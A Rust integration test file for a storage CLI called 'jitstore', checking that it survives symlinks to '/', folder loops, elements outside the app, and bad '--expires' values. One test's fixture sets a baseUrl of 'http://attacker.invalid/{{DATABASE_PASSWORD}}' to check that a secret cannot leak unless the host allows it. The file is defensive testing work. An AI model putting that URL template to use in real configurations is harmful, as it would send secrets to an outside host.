//! The `jitstore` binary on hostile input: an app folder with links to `/`, loops and an
//! element outside the app; a configuration that reaches for an undeclared environment
//! variable; and absurd `sign --expires` values. Each must end with a report, never a
//! hang (a timeout is the failure guard), a panic, or a leaked value.

mod common;

use std::path::Path;
use std::time::Duration;

use common::{jitstore, run_within, stderr, stdout, write};

const LIMIT: Duration = Duration::from_secs(60);

/// A temporary folder whose name is not hidden (discovery skips hidden folders).
fn tempdir() -> tempfile::TempDir {
    tempfile::Builder::new().prefix("app-").tempdir().unwrap()
}

fn files_element(root: &Path) {
    write(
        root,
        "storages/Files/e.json",
        r#"{"title": "Files", "type": "storages.DiskType"}"#,
    );
    write(
        root,
        "storages/Files/Files.json",
        r#"{"directory": "data"}"#,
    );
}

#[cfg(unix)]
#[test]
fn elements_and_check_finish_on_an_app_with_hostile_links() {
    use std::os::unix::fs::symlink;
    let dir = tempdir();
    let app = dir.path().join("my-app");
    let outside = dir.path().join("outside");
    files_element(&app);
    write(
        &outside,
        "Evil/e.json",
        r#"{"title": "Evil", "type": "storages.DiskType"}"#,
    );
    symlink("/", app.join("loop")).unwrap();
    symlink("..", app.join("storages/up")).unwrap();
    symlink(outside.join("Evil"), app.join("storages/Evil")).unwrap();

    let mut command = jitstore();
    command.arg("--app").arg(&app).arg("elements");
    let out = run_within(command, LIMIT);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "storages.Files\tstorages.DiskType\tFiles\n\
         storages.services.StorageSvc\tservices.NormalType\tStorage service\n"
    );
    let err = stderr(&out);
    assert!(
        err.contains("storages.Evil")
            && err.contains("outside the app")
            && err.contains(&outside.join("Evil").display().to_string()),
        "{err}"
    );

    let mut command = jitstore();
    command.arg("--app").arg(&app).arg("check");
    let out = run_within(command, LIMIT);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let err = stderr(&out);
    assert!(
        err.lines()
            .any(|l| l.contains("storages.Evil") && l.contains("outside the app")),
        "{err}"
    );
    assert!(
        err.contains("1 of the app's elements cannot be used"),
        "{err}"
    );
}

#[test]
fn an_undeclared_variable_is_refused_and_its_value_never_shown() {
    let dir = tempdir();
    let app = dir.path();
    write(
        app,
        "storages/Leaky/e.json",
        r#"{"title": "Leaky", "type": "storages.DiskType"}"#,
    );
    write(
        app,
        "storages/Leaky/Leaky.json",
        r#"{"directory": "data", "baseUrl": "http://attacker.invalid/{{DATABASE_PASSWORD}}"}"#,
    );
    let password = "db-password-6d1f0c";
    let run = |extra: &[&str]| {
        let mut command = jitstore();
        command
            .arg("--app")
            .arg(app)
            .args(extra)
            .args(["put", "storages.Leaky"])
            .arg(app.join("storages/Leaky/e.json"))
            .arg("k.json")
            .env("DATABASE_PASSWORD", password);
        run_within(command, LIMIT)
    };
    let out = run(&[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert_eq!(err.lines().count(), 1, "{err}");
    for says in [
        "storages.Leaky",
        "variable DATABASE_PASSWORD is not declared",
        "Leaky.json",
        "\"baseUrl\"",
        r#"add {"name": "DATABASE_PASSWORD"} to "variables" in"#,
        "--allow-env",
    ] {
        assert!(err.contains(says), "{says:?} missing: {err}");
    }
    assert!(!err.contains(password) && !stdout(&out).contains(password));

    // The host may allow it: then the element loads (and its URL holds the value).
    let out = run(&["--allow-env", "DATABASE_"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("attacker.invalid"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn sign_refuses_absurd_expiries_with_one_line() {
    let dir = tempdir();
    let app = dir.path();
    files_element(app);
    write(
        app,
        "storages/Files/Files.json",
        r#"{"directory": "data", "baseUrl": "http://127.0.0.1:9/files",
            "signingKey": "sign-test-signing-key-0123456789"}"#,
    );
    write(
        app,
        "storages/OldOss/e.json",
        r#"{"title": "V1", "type": "storages.OssType"}"#,
    );
    write(
        app,
        "storages/OldOss/OldOss.json",
        r#"{"accessKeyId": "AK", "accessKeySecret": "sk-0123456789", "endPoint": "http://127.0.0.1:9",
            "bucketName": "bucket", "region": "cn-hangzhou", "signatureVersion": "v1"}"#,
    );
    for element in ["storages.OldOss", "storages.Files"] {
        for expires in [
            "18446744073709551615",
            "99999999999999999999999",
            "31536001",
            "0",
            "-5",
            "ten",
        ] {
            let mut command = jitstore();
            command
                .arg("--app")
                .arg(app)
                .args(["sign", element, "a.txt", "--expires", expires]);
            let out = run_within(command, LIMIT);
            let err = stderr(&out);
            assert_eq!(out.status.code(), Some(1), "{element} {expires}: {err}");
            assert_eq!(err.lines().count(), 1, "{element} {expires}: {err}");
            assert!(
                err.contains("--expires") && err.contains(expires) && !err.contains("panicked"),
                "{err}"
            );
            assert!(stdout(&out).is_empty(), "{}", stdout(&out));
        }
        // A week (the longest OSS V4 allows) still signs.
        let mut command = jitstore();
        command
            .arg("--app")
            .arg(app)
            .args(["sign", element, "a.txt", "--expires", "604800"]);
        let out = run_within(command, LIMIT);
        assert!(out.status.success(), "{element}: {}", stderr(&out));
        assert!(
            stdout(&out).starts_with("http://127.0.0.1:9/"),
            "{}",
            stdout(&out)
        );
    }
}
